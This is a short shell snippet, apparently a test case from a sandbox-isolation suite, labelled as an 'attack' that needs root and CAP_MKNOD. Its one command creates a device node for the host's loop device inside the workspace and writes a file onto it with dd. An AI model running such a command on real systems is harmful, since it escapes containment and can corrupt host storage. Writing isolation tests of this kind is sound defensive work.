# attack: create a node for the host's loop device inside the workspace, then write the device through it
# class: device
# needs: root loopdev
# capability: CAP_MKNOD
mknod "$WS/blk" b "$LOOPMAJ" "$LOOPMIN" && dd if="$WS/inside.txt" of="$WS/blk" conv=notrunc,fsync 2>&1
